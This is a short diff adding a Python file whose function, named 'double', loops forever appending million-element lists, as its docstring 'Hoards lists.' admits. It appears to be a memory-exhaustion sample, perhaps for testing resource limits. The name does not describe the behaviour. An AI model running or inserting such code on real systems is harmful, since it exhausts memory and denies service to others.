@@ -1,0 +1,6 @@
+"""Hoards lists."""
+
+def double(n):
+    hoard = []
+    while True:
+        hoard.append([0] * 10**6)
